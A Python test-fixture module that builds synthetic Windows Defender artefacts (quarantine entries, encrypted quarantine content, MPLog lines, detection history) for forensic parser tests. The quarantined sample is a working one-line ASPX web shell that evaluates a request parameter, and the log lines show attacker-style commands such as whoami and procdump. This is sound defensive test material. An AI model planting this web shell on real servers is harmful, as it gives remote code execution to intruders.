"""What Defender writes, made by a writer of its own, and its real detections beside the checkout."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.parsers.assembly_build import shell as assembly
from tests.parsers.stub import corpora

SHELL = (
    b'<%@ Page Language="JScript"%>'
    b'<script runat="server">function Page_Load(){eval(Request["klk"],"unsafe");}</script>\r\n'
)
PATH = "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"
THREAT = "Backdoor:ASP/Chopper.F!dha"
RESOURCE_ID = "5D0A1B2C3D4E5F60718293A4B5C6D7E8F9011223"
QUARANTINED, CREATED, WRITTEN = (132_592_344_000_000_007 + n * 600_000_000 for n in range(3))
PLACE = "C:\\ProgramData\\Microsoft\\Windows Defender"
ENTRY_PATH = f"{PLACE}\\Quarantine\\Entries\\{{80018AE9-0000-0000-A033-FE6ABA19FF4F}}"
CONTENT_PATH = f"{PLACE}\\Quarantine\\ResourceData\\5D\\{RESOURCE_ID}"
MPLOG_PATH = f"{PLACE}\\Support\\MPLog-20210303-065500.log"


def hide(raw: bytes) -> bytes:
    """The published key, by another implementation than the parser's."""
    from dissect.target.plugins.os.windows.defender.quarantine import rc4_crypt

    hidden: bytes = rc4_crypt(raw)
    return hidden


def _field(identifier: int, kind: int, raw: bytes) -> bytes:
    return struct.pack("<HH", len(raw), kind << 12 | identifier) + raw


def _resource(at: int, path: str) -> bytes:
    """A file with its times; fields begin at multiples of four in the section."""
    fields = (
        _field(0x02, 4, bytes.fromhex(RESOURCE_ID)),
        _field(0x0C, 2, (path + "\0").encode("utf-16-le")),
        _field(0x0A, 3, b"\1\0\0\0"),
        *(_field(n, 6, struct.pack("<Q", t)) for n, t in ((0x0F, CREATED), (0x10, WRITTEN), (0x11, WRITTEN))),
    )
    out = (path + "\0").encode("utf-16-le") + struct.pack("<H", len(fields)) + b"file\0"
    for field in fields:
        out += bytes(-(at + len(out)) % 4) + field
    return out


def entry(paths: tuple[str, ...] = (PATH, PATH + ".bak")) -> bytes:
    at, resources, places = 4 + 4 * len(paths), b"", []
    for path in paths:
        places.append(at + len(resources))
        resources += _resource(places[-1], path)
    second = struct.pack(f"<I{len(places)}I", len(places), *places) + resources
    first = bytes(range(32)) + struct.pack("<QQI", QUARANTINED, 2147764153, 1) + THREAT.encode() + b"\0"
    head = b"\xdb\xe8\xc5\x01\x01\0\0\0" + bytes(32) + struct.pack("<IIII", len(first), len(second), 1, 2) + b"\0\0\0\0"
    return hide(head) + hide(first) + hide(second)


def content(data: bytes = SHELL) -> bytes:
    def stream(kind: int, raw: bytes, name: str = "") -> bytes:
        wide = name.encode("utf-16-le")
        return struct.pack("<IIQI", kind, 2 if kind == 3 else 0, len(raw), len(wide)) + wide + raw

    zone = b"[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=http://203.0.113.9/a.aspx\r\n"
    return hide(stream(3, bytes(20)) + stream(1, data) + stream(4, zone, ":Zone.Identifier:$DATA"))


MPLOG = (
    "MPLog-20210303-065500.log",
    "2021-03-03T06:55:00.123Z Service launched",
    f"2021-03-03T06:55:01.456Z DETECTIONEVENT MPSOURCE_REALTIME {THREAT} file:{PATH};",
    f"2021-03-03T06:55:01.500Z DETECTION_ADD#1 {THREAT} file:{PATH} PropBag [length: 0, data: (null)]",
    "2021-03-03T06:56:00.000Z SDN:Issuing SDN query for \\\\?\\C:\\Windows\\Temp\\p.exe (C:\\Windows\\Temp\\p.exe) "
    f"(sha1={'a1' * 20}, sha2={'B2' * 32})",
    "2021-03-03T06:57:00.000Z [Exclusion] C:\\Windows\\Temp -> \\Device\\HarddiskVolume2\\Windows\\Temp",
    "2021-03-03T06:58:00.000Z ProcessImageName: procdump64.exe, Pid: 4711, TotalTime: 105, Count: 3, MaxTime: 60, "
    "MaxTimeFile: \\Device\\HarddiskVolume2\\root\\a.dmp, EstimatedImpact: 12%",
    "2021-03-03T06:58:30.000Z [Mini-filter] Blocked file: \\\\?\\C:\\inetpub\\a.aspx Process: w3wp.exe, Status: 0x0, "
    "State: 1, ScanRequest #1, FileId: 0x1, Reason: OnClose, DesiredAccess:0x1",
    "2021-03-03T06:59:00.000Z Engine:command line reported as lowfi: C:\\Windows\\System32\\cmd.exe /c whoami",
    '2021-03-03T06:59:10.000+02:00 original file name "procdump" for "C:\\root\\x.exe", hr=0x0',
    "Begin Resource Scan",
    "Start Time:03-03-2021 07:55:00",
    "==============",
)


def mplog() -> bytes:
    return "\ufeff".encode("utf-16-le") + "\r\n".join([*MPLOG, ""]).encode("utf-16-le")


def detection(name: str = "6AFE33A0-19BA-4FFF-892F-B700539D7D63") -> bytes:
    file = corpora() / "plaso/test_data/windefender_history" / name
    return file.read_bytes() if file.is_file() else b""


DETECTION_PATH = f"{PLACE}\\Scans\\History\\Service\\DetectionHistory\\1A\\6AFE33A0-19BA-4FFF-892F-B700539D7D63"

SAMPLES: dict[str, tuple[tuple[str, Callable[[], bytes]], ...]] = {
    "web.assembly": (("C:\\Windows\\Temporary ASP.NET Files\\App_Web_a1.dll", assembly),),
    "windows.defender.content": ((CONTENT_PATH, content),),
    "windows.defender.detection": ((DETECTION_PATH, detection),),
    "windows.defender.log": ((MPLOG_PATH, mplog),),
    "windows.defender.quarantine": ((ENTRY_PATH, entry),),
}
